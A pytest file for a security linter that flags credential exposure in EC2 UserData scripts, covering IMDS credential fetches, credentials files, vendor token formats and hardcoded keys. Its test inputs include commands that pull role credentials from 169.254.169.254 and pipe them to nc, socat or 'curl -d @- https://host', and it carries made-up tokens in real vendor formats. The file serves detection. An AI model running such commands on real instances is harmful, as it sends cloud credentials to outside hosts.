"""The words of scripts, each by what a user sees of a script with it: one instance for every script.

Sources: the manuals of the commands; AWS Tools for PowerShell; AWS CLI User Guide.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterable
from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from iplint.finding import Report

Check = Callable[..., "Report"]


def said(template: Check, rule: str, scripts: Iterable[str]) -> dict[str, str]:
    """What a rule says of each script that is user data; empty where it says nothing."""
    listed = list(scripts)
    resources = {
        f"H{number}": {"Type": "AWS::EC2::Instance", "Properties": {"UserData": {"Fn::Base64": script}}}
        for number, script in enumerate(listed)
    }
    report = template(json.dumps({"Resources": resources}), rules=[rule])
    found = {finding.address: finding.message for finding in report.findings if finding.verdict == "fail"}
    return {script: found.get(f"H{number}", "") for number, script in enumerate(listed)}


EXPOSED = "exposed-temporary-credentials"
FETCH = "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web"
POWERSHELL_FETCH = "Invoke-RestMethod http://169.254.169.254/latest/meta-data/iam/security-credentials/web"
BASH, POWERSHELL = "#!/bin/bash\n", "<powershell>\n"
FILTERS = (
    *("jq", "sed", "awk", "gawk", "cut", "grep", "egrep", "tr", "cat", "head", "tail", "sort", "base64", "python"),
    *("python3", "perl", "ruby", "xargs", "json_pp", "yq"),
)
POWERSHELL_FILTERS = ("ConvertFrom-Json", "ConvertTo-Json", "Select-Object", "Format-List", "Out-String")


def test_what_passes_its_input_on_prints_credentials(template: Check) -> None:
    scripts = {f"{BASH}{FETCH} | {name} x\n": name for name in (*FILTERS, "wc", "sha256sum")}
    scripts |= {
        f"{POWERSHELL}{POWERSHELL_FETCH} | {name}\n</powershell>": name for name in (*POWERSHELL_FILTERS, "Measure")
    }
    found = said(template, EXPOSED, scripts)
    printing = {name for script, name in scripts.items() if "prints temporary credentials" in found[script]}
    assert printing == {*FILTERS, *POWERSHELL_FILTERS}


@pytest.mark.parametrize(
    ("what", "commands"),
    [
        ("logs", ("logger", "wall", "mail root", "sendmail root", "systemd-cat")),
        ("sends", ("nc host 1", "ncat host 1", "netcat host 1", "socat - TCP:host:1", "curl -d @- https://host")),
        ("stores", ("tee /tmp/x",)),
    ],
)
def test_what_gets_credentials_from_a_pipeline(template: Check, what: str, commands: tuple[str, ...]) -> None:
    scripts = [f"{BASH}{FETCH} | {command}\n" for command in commands]
    found = said(template, EXPOSED, scripts)
    assert [script for script in scripts if f"{what} temporary credentials" not in found[script]] == []


@pytest.mark.parametrize(
    ("what", "commands"),
    [
        ("logs", ("Write-EventLog -Message",)),
        ("stores", ("Out-File x", "Set-Content x", "Add-Content x", "Tee-Object x")),
    ],
)
def test_what_gets_credentials_in_powershell(template: Check, what: str, commands: tuple[str, ...]) -> None:
    scripts = [f"{POWERSHELL}$c = {POWERSHELL_FETCH}\n{command} $c\n</powershell>" for command in commands]
    found = said(template, EXPOSED, scripts)
    assert [script for script in scripts if f"{what} temporary credentials" not in found[script]] == []


@pytest.mark.parametrize("nowhere", ["/dev/null", "$null", "NUL", "nul"])
def test_what_goes_nowhere_is_not_exposed(template: Check, nowhere: str) -> None:
    scripts = [f"{BASH}{FETCH} > {nowhere}\n", f"{BASH}{FETCH} -o {nowhere}\n", f"{BASH}{FETCH} > /tmp/x\n"]
    assert list(map(bool, said(template, EXPOSED, scripts).values())) == [False, False, True]


SOURCES = {
    FETCH: "prints",
    "aws configure export-credentials": "prints",
    "aws sts assume-role --role-arn x --role-session-name y": "prints",
    "aws sts get-session-token": "prints",
}
IN_PYTHON = (
    "import boto3\nc = boto3.Session().get_credentials()\nprint(boto3.Session().get_credentials().secret_key)\n",
    "import boto3\nprint(session.get_credentials().get_frozen_credentials())\n",
    "import botocore\nprint(holder.get_frozen_credentials())\n",
)


def test_what_gives_credentials(template: Check) -> None:
    scripts = [*(f"{BASH}{source}\n" for source in SOURCES), *(f"#!/usr/bin/python3\n{text}" for text in IN_PYTHON)]
    found = said(template, EXPOSED, scripts)
    assert [script for script in scripts if "prints temporary credentials" not in found[script]] == []


@pytest.mark.parametrize("listing", ["env", "printenv", "set", "export -p", "sudo env"])
@pytest.mark.parametrize(
    "taking", ["eval $(aws configure export-credentials --format env)", "export $(aws sts assume-role --role-arn x)"]
)
def test_a_listed_environment_holds_credentials(template: Check, listing: str, taking: str) -> None:
    scripts = [f"{BASH}{taking}\n{listing}\n", f"{BASH}{listing}\n", f"{BASH}{taking}\n{listing} x\n"]
    found = list(said(template, EXPOSED, scripts).values())
    assert ["prints an environment" in text for text in found] == [True, False, False]


@pytest.mark.parametrize("name", ["AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AWS_REGION"])
def test_variables_that_a_command_sets_are_credentials(template: Check, name: str) -> None:
    script = f"{BASH}eval $(aws configure export-credentials --format env)\necho ${name}\n"
    [message] = said(template, EXPOSED, [script]).values()
    assert ("prints temporary credentials" in message) is (name != "AWS_REGION")


IN_FILE = "credentials-file-on-instance"
COPYING = ("cp", "mv", "install", "ln", "scp", "rsync", "aws s3 cp", "gsutil cp", "az storage blob download x")
WRITING = ("curl https://host/x -o", "wget https://host/x -O", "tee")
IN_POWERSHELL = (
    *("Add-Content", "Copy-Item x", "Copy-S3Object -BucketName b -Key k -LocalFile", "Invoke-WebRequest https://h"),
    *("iwr https://h", "Move-Item x", "New-Item", "Out-File", "Read-S3Object -BucketName b -Key k -File"),
    *("Set-Content", "copy x", "move x", "xcopy x"),
)
STORES = (*("Set-AWSCredential", "Set-AWSCredentials", "Initialize-AWSDefaults", "Initialize-AWSDefaultConfiguration"),)


def test_what_writes_a_credentials_file(template: Check) -> None:
    commands = [f"{BASH}{name} x /root/.aws/credentials\n" for name in COPYING]
    commands += [f"{BASH}{name} /root/.aws/credentials\n" for name in WRITING]
    commands += [f"<powershell>\n{name} C:\\Users\\a\\.aws\\credentials\n</powershell>" for name in IN_POWERSHELL]
    found = said(template, IN_FILE, commands)
    assert [script for script in commands if not found[script]] == []
    others = [f"{BASH}{name} /root/.aws/credentials\n" for name in ("cat", "chmod 600", "ls", "test -f")]
    assert [script for script, message in said(template, IN_FILE, others).items() if message] == []


@pytest.mark.parametrize("store", STORES)
def test_stores_of_powershell_keep_keys(template: Check, store: str) -> None:
    scripts = [
        f"<powershell>\n{store} -AccessKey $a -SecretKey $s -StoreAs default\n</powershell>",
        f"<powershell>\n{store} -ProfileName default\n</powershell>",
    ]
    keyed, named = said(template, IN_FILE, scripts).values()
    assert "stores an access key with the AWS tools for PowerShell" in keyed
    assert named == ""


@pytest.mark.parametrize(
    ("command", "stores"),
    [
        ("aws configure set aws_access_key_id $A", True),
        ("aws configure set aws_secret_access_key $S", True),
        ("aws configure set profile.web.aws_secret_access_key $S", True),
        ("aws configure set region eu-west-1", False),
        ("aws configure import --csv file://x.csv", True),
        ("printf '%s\\n' $A $S | aws configure --profile web", True),
        ("aws configure list", False),
    ],
)
def test_the_command_line_keeps_keys(template: Check, command: str, stores: bool) -> None:
    [message] = said(template, IN_FILE, [f"{BASH}{command}\n"]).values()
    assert ("stores an access key with `aws configure`" in message) is stores


def test_a_credentials_file_may_be_anywhere_that_a_variable_names(template: Check) -> None:
    script = f"{BASH}export AWS_SHARED_CREDENTIALS_FILE=/etc/x\nprintf '[default]' > /root/.aws/credentials\n"
    assert all(said(template, IN_FILE, [script]).values())


# Each as its vendor documents it, made up.
FAKE = "FAKEfake12" * 30
TOKENS = {
    **{f"gh{kind}_{FAKE[:36]}": "a GitHub token" for kind in "pousr"},
    f"github_pat_{FAKE[:22]}_{FAKE[:59]}": "a GitHub token",
    f"glpat-{FAKE[:20]}": "a GitLab token",
    **{f"xox{kind}-{FAKE[:20]}": "a Slack token" for kind in "abeoprs"},
    f"https://hooks.slack.com/services/T{FAKE[:4].upper()}234/B{FAKE[:4].upper()}234/{FAKE[:24]}": "a Slack webhook",
    f"sk_live_{FAKE[:24]}": "a Stripe key",
    f"rk_live_{FAKE[:24]}": "a Stripe key",
    f"npm_{FAKE[:36]}": "an npm token",
    f"AIza{FAKE[:35]}": "a Google API key",
    f"dop_v1_{'fa4e' * 16}": "a DigitalOcean token",
    f"{FAKE[:14]}.atlasv1.{FAKE[:60]}": "an HCP Terraform token",
    **{f"hv{kind}.{FAKE[:24]}": "a Vault token" for kind in "sbr"},
    f"dapi{'fa4e' * 8}": "a Databricks token",
    f"SG.{FAKE[:22]}.{FAKE[:43]}": "a SendGrid key",
    f"ABSK{FAKE[:100]}": "an Amazon Bedrock API key",
}


def test_tokens_of_vendors_have_their_forms(template: Check) -> None:
    scripts = {f"{BASH}setup --with {token}\n": kind for token, kind in TOKENS.items()}
    found = said(template, "hardcoded-secret-in-user-data", scripts)
    assert [script for script, kind in scripts.items() if kind not in found[script]] == []
    shorter = [f"{BASH}setup --with {token[:-9]}\n" for token in TOKENS if "xox" not in token and "live" not in token]
    found = said(template, "hardcoded-secret-in-user-data", shorter)
    assert [script for script in shorter if found[script] and "slack.com" not in script] == []


CALLING = "imdsv1-call-in-user-data"
METADATA = "http://169.254.169.254/latest/meta-data/instance-id"


def test_clients_that_call_the_metadata_service(template: Check) -> None:
    clients = ["curl", "wget", "http", "https", "fetch", "aria2c", "lynx", "GET"]
    scripts = {f"{BASH}{name} {METADATA}\n": name for name in [*clients, "ping", "myclient"]}
    windows = ["Invoke-RestMethod", "Invoke-WebRequest", "irm", "iwr", "Start-BitsTransfer"]
    scripts |= {f"{POWERSHELL}{name} {METADATA}\n</powershell>": name for name in [*windows, "Test-Connection"]}
    found = said(template, CALLING, scripts)
    assert {name for script, name in scripts.items() if found[script]} == {*clients, *windows}


@pytest.mark.parametrize(
    ("host", "is_called"),
    [
        ("169.254.169.254", True),
        ("[fd00:ec2::254]", True),
        ("instance-data", True),
        ("instance-data.ec2.internal", True),
        ("169.254.170.2", False),
        ("169.254.169.2540", False),
        ("instance-data.example.com", False),
    ],
)
def test_hosts_of_the_metadata_service(template: Check, host: str, is_called: bool) -> None:
    [message] = said(template, CALLING, [f"{BASH}curl http://{host}/latest/meta-data/instance-id\n"]).values()
    assert bool(message) is is_called


STAND_INS = ["anything", "fake", "foo", "foobar", "localstack", "minio", "minio123", "minioadmin", "mock", "test"]
NOTHING = ["true", "false", "yes", "no", "on", "off", "null", "nil", "none", "undefined", "string", "str", '""']


def test_what_is_put_in_the_place_of_a_key_is_none(template: Check) -> None:
    words = [*STAND_INS, *NOTHING]
    scripts = [f"{BASH}export AWS_SECRET_ACCESS_KEY={word}\n" for word in words]
    found = said(template, "hardcoded-access-key", scripts)
    assert [script for script in scripts if found[script]] == []
    [message] = said(template, "hardcoded-access-key", [f"{BASH}export AWS_SECRET_ACCESS_KEY=hunter2\n"]).values()
    assert message


PATH = "http://169.254.169.254/latest/meta-data/iam/security-credentials/web"


@pytest.mark.parametrize(
    ("command", "what"),
    [
        (f"wget -O /tmp/x {PATH}", "stores"),
        (f"wget -q -O /tmp/x {PATH}", "stores"),
        (f"wget {PATH}", "stores"),
        (f"wget -qO- {PATH}", "prints"),
        (f"wget -O - {PATH}", "prints"),
        (f"curl -o /tmp/x {PATH}", "stores"),
        (f"curl -O {PATH}", "stores"),
        (f"curl -o - {PATH}", "prints"),
        (f"curl --output=/tmp/x {PATH}", "stores"),
        (f"CREDS=$(curl {PATH})\necho $CREDS", "prints"),
        # What it held is gone.
        (f"CREDS=$(curl {PATH})\nCREDS=none\necho $CREDS", ""),
    ],
)
def test_where_credentials_go(template: Check, command: str, what: str) -> None:
    [message] = said(template, EXPOSED, [f"{BASH}{command}\n"]).values()
    assert message.partition(" temporary credentials")[0].rpartition(" ")[2] == what
